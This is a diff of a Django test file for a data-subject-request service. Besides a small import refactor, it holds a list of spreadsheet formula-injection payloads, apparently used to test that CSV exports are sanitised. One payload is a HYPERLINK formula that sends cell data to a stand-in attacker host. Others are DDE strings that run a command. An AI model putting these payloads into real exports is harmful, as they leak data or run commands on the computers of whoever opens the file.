@@ -5,7 +5,6 @@ import csv
 import io
 import re
 from datetime import timedelta
-from pathlib import Path
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver
@@ -16,8 +15,8 @@ from dsr.models import DataSubjectRequest
 from dsr.services import requests as services
 from dsr.services.audit import Actor
 from tests.factories import officer_create, request_create
+from tests.support import ROOT
 
-ROOT = Path(__file__).resolve().parent.parent
 
 HOSTILE_TEXT = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\0=1"]
